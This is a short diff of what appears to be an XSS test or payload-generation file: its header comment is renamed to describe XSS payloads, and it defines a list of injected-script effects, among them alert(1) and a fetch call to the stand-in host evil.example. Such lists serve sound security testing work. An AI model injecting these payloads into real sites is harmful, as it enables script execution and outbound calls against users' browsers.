@@ -1,4 +1,4 @@
-/** Texts that do something where they are taken for more than text: each way in, with each way to act. */
+/** XSS payloads: each way to inject script, with each visible effect. */
 
 const ACTS = ['window.struck=1', 'document.body.dataset.struck=1', "fetch('//evil.example')", 'alert(1)'];
 
